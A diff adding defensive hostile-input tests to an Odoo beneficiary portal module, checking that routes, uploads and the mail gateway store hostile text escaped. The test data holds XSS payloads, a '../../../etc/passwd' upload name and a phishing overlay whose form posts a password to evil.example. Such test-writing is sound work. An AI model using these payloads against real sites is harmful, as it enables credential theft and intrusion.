@@ -3,6 +3,12 @@
 Each one ends in a clear message (ValidationError / UserError naming the problem) or in
 stored, harmless data; never in a crash or a half-written record."""
 
+import base64
+import inspect
+import itertools
+from unittest.mock import patch
+from urllib.parse import unquote
+
 import lxml.html
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
@@ -10,10 +16,15 @@ from psycopg2 import IntegrityError
 
 from odoo import fields
 from odoo.exceptions import UserError, ValidationError
-from odoo.tests import tagged
+from odoo.tests import HttpCase, tagged
 from odoo.tools import mute_logger
 
+from ..lib.outside_text import plain_text
 from .common import BeneficiaryCase
+from .common_request import PNG
+from .test_portal_isolation import CSRF_RE, NOTHING, ROUTES, PortalIsolationFixtures, module_routes
+
+PNG_BYTES = base64.b64decode(PNG)
 
 PAYLOAD = "<script>alert('x')</script>"
 HTML_PAYLOAD = (
@@ -59,6 +70,8 @@ class TestHostileInput(BeneficiaryCase):
         cls.complaint_category = cls.env["beneficiary.complaint.category"].create(
             {"name": "Service quality", "kind": "complaint", "sla_days": 5}
         )
+        # the hourly allowance of a sender has tests of its own (TestBeneficiaryPortal, TestConcurrency)
+        cls.env["ir.config_parameter"].set_param("beneficiary_relations.complaint_limit_per_hour", "100000")
 
     def _public_values(self, **values):
         vals = {
@@ -233,9 +246,307 @@ class TestHostileInput(BeneficiaryCase):
             self.assertTrue(error.args[0])
             self.assertEqual(self.Complaint.search_count([]), before, "nothing half-written")
             return
-        # NUL characters are dropped (PostgreSQL refuses them in text)
-        self.assertEqual(complaint.subject, subject.replace("\x00", "").strip()[:200])
+        # NUL characters are dropped (PostgreSQL refuses them in text), bidi overrides too
+        self.assertEqual(complaint.subject, plain_text(subject).strip())
         assert_harmless(self, complaint.description, "the description")
         self.assertEqual(complaint.state, "acknowledged")
         self.assertTrue(complaint.sla_deadline)
         self.assertLessEqual(fields.Datetime.now(), complaint.sla_deadline)
+
+
+# ---------------------------------------------------------------------- the routes
+# what a forged form, query string or JSON call may carry (a lone surrogate arrives as
+# the bytes of its UTF-8 encoding in a form, and as itself in JSON)
+HUGE = "x" * 1_000_000
+HUGE_IN_URL = "x" * 20_000  # a longer URL is refused by the server before any route
+HOSTILE_VALUES = (
+    "\x00",
+    "ab\x00cd",
+    HUGE,
+    b"\xed\xa0\x80",
+    "\u202eexe.gnp",
+    "\u200b\u200c\u200d\u2060\ufeff",
+    "a" + "\u0301" * 3000,
+    "²",
+    "١٢",
+    "99999999999999999999",
+    "-1",
+    "",
+    "<script>alert(1)</script>",
+)
+HOSTILE_JSON_VALUES = (
+    "\x00",
+    "\ud800",
+    "x" * 1_000_000,
+    "\u202eexe.gnp",
+    None,
+    True,
+    12,
+    1.5,
+    10**30,
+    [],
+    ["a"],
+    {"a": 1},
+)
+HOSTILE_IDS = (0, 2**31, 2**63, 10**30)
+HOSTILE_FILES = (
+    ("a\x00b.png", PNG_BYTES, "image/png"),
+    ("../../../etc/passwd", PNG_BYTES, "image/png"),
+    ("\u202egnp.exe", PNG_BYTES, "image/png"),
+    ("\u200b" * 10 + "x" * 5000 + ".png", PNG_BYTES, "image/png"),
+    ("page.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "image/svg+xml"),
+    ("empty.png", b"", "image/png"),
+    ("page.html", b"<html><script>alert(1)</script></html>", "text/html"),
+)
+
+
+@tagged("post_install", "-at_install")
+class TestHostileRoutes(PortalIsolationFixtures, HttpCase):
+    """Every route of the module (ROUTES, checked against Odoo's routing map) answers
+    hostile values in each of its arguments and form fields, missing fields, hostile ids
+    in its URL and hostile uploads with a page or a clear message, for a visitor and for
+    the beneficiary whose records they are: never with a server error."""
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        cls.routes = module_routes(cls.env)
+        # the throttle of the complaint forms is tested on its own (TestComplaintThrottle)
+        cls.env["ir.config_parameter"].set_param("beneficiary_relations.complaint_limit_per_hour", "100000")
+
+    def setUp(self):
+        super().setUp()
+        # the PDF itself is not what is tested here: the routes' handling of their input is
+        patcher = patch.object(
+            type(self.env["ir.actions.report"]), "_run_wkhtmltopdf", return_value=b"%PDF-1.4 hostile"
+        )
+        patcher.start()
+        self.addCleanup(patcher.stop)
+
+    def _fresh(self, rule):
+        """Records a call may use up (a request signed, a document received, a program
+        registered), renewed so that every call reaches as deep as a genuine one."""
+        if rule == "/my/requests/<int:request_id>/sign":
+            self.request_to_sign = self.Request.create(
+                {
+                    "beneficiary_id": self.beneficiary_a.id,
+                    "service_type_id": self.signed_service.id,
+                    "channel_id": self.channel_phone.id,
+                    "description": "<p>To sign</p>",
+                }
+            )
+            self.request_to_sign._portal_ensure_token()
+        elif rule == "/my/requests/<int:request_id>/upload":
+            self.request_a = self._new_request()
+            self.request_a.action_submit()
+            self.request_a._portal_ensure_token()
+        elif rule == "/my/programs/<int:program_id>/register":
+            self.open_program = self.open_program.copy({"name": "Open course", "state": "open"})
+
+    def _hostile_calls(self, rule):
+        """(what, path, params, files) of every hostile call of ``rule``."""
+        spec = ROUTES[rule]
+        json_route = spec["kind"] == "json"
+        values = HOSTILE_JSON_VALUES if json_route else HOSTILE_VALUES
+        if spec["kind"] == "get":
+            values = tuple(HUGE_IN_URL if value is HUGE else value for value in values)
+
+        def genuine():
+            self._fresh(rule)
+            return (
+                spec.get("path", NOTHING)(self),
+                spec.get("params", NOTHING)(self),
+                spec.get("files", NOTHING)(self),
+            )
+
+        path, params, files = genuine()
+        arguments = [
+            name
+            for name, parameter in inspect.signature(self.routes[rule].func).parameters.items()
+            if parameter.kind is not parameter.VAR_KEYWORD and name not in path
+        ]
+        yield "nothing", path, {}, {}
+        for name in dict.fromkeys([*params, *arguments]):
+            for value in values:
+                path, params, files = genuine()
+                yield f"{name}={value!r:.40}", path, dict(params, **{name: value}), files
+        for name in path:
+            for value in HOSTILE_IDS:
+                path, params, files = genuine()
+                yield f"<{name}>={value}", dict(path, **{name: value}), params, files
+        for name in files:
+            for upload in HOSTILE_FILES:
+                path, params, files = genuine()
+                yield f"{name}={upload[0]!r:.40}", path, params, dict(files, **{name: upload})
+
+    def _try_hostile_input(self, who, visitor=False):
+        csrf = self._csrf()
+        for rule in ROUTES:
+            calls = self._hostile_calls(rule)
+            if visitor and self.routes[rule].routing["auth"] == "user":
+                # sent to the login page before any value is read: a few calls tell
+                calls = itertools.islice(calls, 0, None, 25)
+            for what, path, params, files in calls:
+                with self.subTest(who=who, rule=rule, what=what):
+                    response = self._call(rule, path, params, files, csrf)
+                    self._assert_answered(response, f"{who}: {rule} {what}")
+
+    @mute_logger("odoo.http", "odoo.addons.http_routing.models.ir_http", "odoo.addons.base.models.ir_http")
+    def test_visitor_hostile_input(self):
+        self._try_hostile_input("visitor", visitor=True)
+
+    @mute_logger("odoo.http", "odoo.addons.http_routing.models.ir_http", "odoo.addons.base.models.ir_http")
+    def test_beneficiary_hostile_input(self):
+        self.authenticate("t_iso_portal_a", "t_iso_portal_a")
+        self._try_hostile_input("portal A")
+
+
+# a page-restyling payload: a full-screen link over the officer's backend, a remote image
+# reporting the visit, a form posting elsewhere
+RESTYLING = (
+    '<a href="https://evil.example/login" style="position:fixed;top:0;left:0;width:100%;height:100%;'
+    'z-index:9999;background:#fff;font-size:60px">SESSION EXPIRED, log in again</a>'
+    '<img src="https://evil.example/seen.png"><form action="https://evil.example/steal">'
+    '<input name="password"></form><p class="o_hidden">Need a food basket</p>'
+)
+
+
+def assert_plain(case, html, where):
+    """``html`` holds text only: paragraphs and line breaks, and the links Odoo makes of
+    addresses written in the text, none of the sender's elements or attributes."""
+    assert_harmless(case, html, where)
+    for fragment in html if isinstance(html, list) else [html]:
+        for element in lxml.html.fragments_fromstring(str(fragment or "")):
+            if not isinstance(element, lxml.html.HtmlElement):
+                continue
+            for node in element.iter():
+                case.assertIn(node.tag, ("p", "br", "a", "div"), f"{where} keeps <{node.tag}>")
+                case.assertNotIn("style", node.attrib, f"{where} keeps a style")
+                case.assertNotIn("class", node.attrib, f"{where} keeps a class")
+                if node.tag == "a":
+                    case.assertEqual(node.text, unquote(node.get("href")), f"{where} keeps a disguised link")
+
+
+@tagged("post_install", "-at_install")
+class TestHostileTextOnPortal(PortalIsolationFixtures, HttpCase):
+    """Text typed by beneficiaries, visitors and mail senders, through the real routes and
+    the mail gateway: stored as plain text and shown escaped."""
+
+    def _post(self, url, data, files=None):
+        response = self.url_open(url, data=dict(data, csrf_token=self._csrf()), files=files)
+        self.assertLess(response.status_code, 500, url)
+        return response
+
+    def test_request_description_typed_on_the_portal_is_plain_text(self):
+        self.authenticate("t_iso_portal_a", "t_iso_portal_a")
+        self._post(
+            "/my/requests/new",
+            {"service_type_id": self.service.id, "description": RESTYLING},
+            files={f"document_{self.doc_id.id}": ("id.png", PNG_BYTES, "image/png")},
+        )
+        request = self.Request.search([("beneficiary_id", "=", self.beneficiary_a.id)], limit=1)
+        self.assertEqual(request.channel_id, self.env.ref("beneficiary_relations.channel_portal"))
+        assert_plain(self, request.description, "the request's description")
+        self.assertIn("SESSION EXPIRED", request.description, "the text is kept, as text")
+        self.assertIn("&lt;img", request.description)
+        page = self.url_open(request.get_portal_url()).text
+        self.assertNotIn('src="https://evil.example', page, "shown escaped to the beneficiary")
+        self.assertNotIn("position:fixed", page.replace("position:fixed;top", ""))
+
+    def test_complaint_mailed_to_the_alias_is_plain_text(self):
+        raw = (
+            "From: Sender <sender@elsewhere.example>\r\n"
+            "To: complaints@example.com\r\n"
+            "Subject: =?utf-8?q?Urgent=E2=80=AE?=\r\n"
+            "Message-ID: <restyling-1@example.com>\r\n"
+            "MIME-Version: 1.0\r\n"
+            "Content-Type: text/html; charset=utf-8\r\n\r\n"
+            f"<html><body>{RESTYLING}</body></html>\r\n"
+        )
+        complaint = self.env["beneficiary.complaint"].browse(
+            self.env["mail.thread"].message_process("beneficiary.complaint", raw)
+        )
+        self.assertEqual(complaint.subject, "Urgent", "no bidi override in the subject")
+        assert_plain(self, complaint.description, "the mailed complaint's description")
+        self.assertIn("SESSION EXPIRED", complaint.description)
+        self.assertIn("evil.example/seen.png", complaint.description, "the image's address stays, as text")
+        mail_message = complaint.message_ids.filtered(lambda m: m.message_type == "email")
+        self.assertTrue(mail_message, "the mail is in the chatter")
+        assert_plain(self, mail_message.mapped("body"), "the chatter")
+        # a reply by e-mail to the complaint's thread is kept as plain text as well
+        reply = raw.replace("<restyling-1@", "<restyling-2@").replace(
+            "Subject:", f"In-Reply-To: {mail_message.message_id}\r\nSubject:"
+        )
+        self.env["mail.thread"].message_process("beneficiary.complaint", reply)
+        replies = complaint.message_ids.filtered(lambda m: m.message_type == "email") - mail_message
+        self.assertTrue(replies)
+        assert_plain(self, replies.mapped("body"), "a reply by e-mail")
+
+    def test_rating_feedback_is_plain_text(self):
+        request = self._bring_to(self._new_request(), "delivered")
+        token = request._portal_rating_token()
+        csrf = CSRF_RE.search(self.url_open(f"/rate/{token}/1").text).group(1)
+        response = self.url_open(
+            f"/rate/{token}/submit_feedback",
+            data={"csrf_token": csrf, "rate": 1, "feedback": f"Too slow\x00{RESTYLING}"},
+        )
+        self.assertEqual(response.status_code, 200)
+        self.assertTrue(request.rating_ids.feedback.startswith("Too slow<a"), "NUL dropped, text kept")
+        follow_up = request.activity_ids.filtered(lambda a: a.user_id == self.officer_a)
+        assert_plain(self, follow_up.note, "the call-back activity")
+        self.assertIn("SESSION EXPIRED", follow_up.note)
+
+    def test_nul_characters_in_portal_forms(self):
+        """Finding 7: a NUL typed (or forged) in the data request, the signature's name
+        and the program registration used to end in a server error."""
+        self.authenticate("t_iso_portal_a", "t_iso_portal_a")
+        self._post(
+            "/my/beneficiary/data-request",
+            {"request_type": "correction", "description": "My mobile\x00 changed"},
+        )
+        data_request = self.env["beneficiary.data.request"].search(
+            [("beneficiary_id", "=", self.beneficiary_a.id)]
+        )
+        self.assertEqual(data_request.description, "My mobile changed")
+        result = self.make_jsonrpc_request(
+            f"/my/requests/{self.request_to_sign.id}/sign",
+            {"name": "Fahad\x00 Al-Dosari", "signature": PNG.decode()},
+        )
+        self.assertNotIn("error", result)
+        self.assertEqual(self.request_to_sign.declaration_signer_name, "Fahad Al-Dosari")
+        program = self.open_program.copy({"name": "Second course", "state": "open"})
+        self._post(
+            f"/my/programs/{program.id}/register",
+            {
+                "beneficiary_id": self.beneficiary_a.id,
+                "mobile": "0551234567",
+                "guardian_name": "Guar\x00dian",
+                "motivation": "To\x00 learn",
+            },
+        )
+        registration = program.registration_ids
+        self.assertEqual(registration.beneficiary_id, self.beneficiary_a)
+        self.assertEqual((registration.guardian_name, registration.motivation), ("Guardian", "To learn"))
+
+    def test_text_too_long_is_refused_with_a_message(self):
+        self.authenticate("t_iso_portal_a", "t_iso_portal_a")
+        before = self.Request.search_count([])
+        response = self._post(
+            "/my/requests/new",
+            {"service_type_id": self.service.id, "description": "x" * 200_000},
+            files={f"document_{self.doc_id.id}": ("id.png", PNG_BYTES, "image/png")},
+        )
+        self.assertIn("is too long (200000 characters)", response.text)
+        self.assertEqual(self.Request.search_count([]), before, "nothing written")
+
+    def test_uploaded_file_names_are_cleaned(self):
+        request = self._new_request()
+        request.action_submit()
+        self.authenticate("t_iso_portal_a", "t_iso_portal_a")
+        document = request.document_ids[1]
+        self._post(
+            f"/my/requests/{request.id}/upload",
+            {"document_id": document.id},
+            files={"file": ("..\\..\\\u202egnp.exe\u200b.png", PNG_BYTES, "image/png")},
+        )
+        self.assertEqual(document.attachment_ids.name, "gnp.exe.png")
